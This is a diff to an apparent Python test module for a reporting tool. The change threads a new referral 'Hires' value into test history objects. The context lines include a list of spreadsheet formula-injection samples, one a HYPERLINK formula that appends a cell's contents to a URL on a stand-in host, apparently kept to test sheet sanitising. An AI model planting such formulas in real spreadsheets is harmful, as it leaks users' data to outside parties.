@@ -20,13 +20,15 @@ from relay.reports.make import History, Program, compose
 from relay.reports.sheets import cell
 from relay.reports.values import By, Period, Report
 from relay.reports.wording import plain
+from storage.columns import micros
 from storage.counts import Count
 from storage.records import EventKind
-from storage.columns import micros
+from storage.referrals import Hires
 from storage.stories import Story
 
 UNTIL = datetime(2026, 3, 2, tzinfo=UTC)
 PERIOD = Period(UNTIL - timedelta(days=28), UNTIL)
+NOBODY = Hires(UNTIL, 0)
 
 FORMULAS = [
     '=HYPERLINK("http://evil.test/?"&A1,"x")',
@@ -66,8 +68,8 @@ def reported(name: str, by: By = By.AMBASSADOR) -> Report:
     told = [Story(opened, "forwarded", person.id, source=name, reached=opened, answered=opened + 9)]
     counts = [Count(EventKind.HELD, 7, person.id, {"rules": name})]
     program = Program({person.id: person}, Counter(), lambda _, start, end: end - start)
-    before = History(PERIOD.before(), [], [])
-    return compose(History(PERIOD, told * 7, counts), before, program, by, UNTIL)
+    before = History(PERIOD.before(), [], [], NOBODY)
+    return compose(History(PERIOD, told * 7, counts, NOBODY), before, program, by, UNTIL)
 
 
 @pytest.mark.parametrize("by", By)
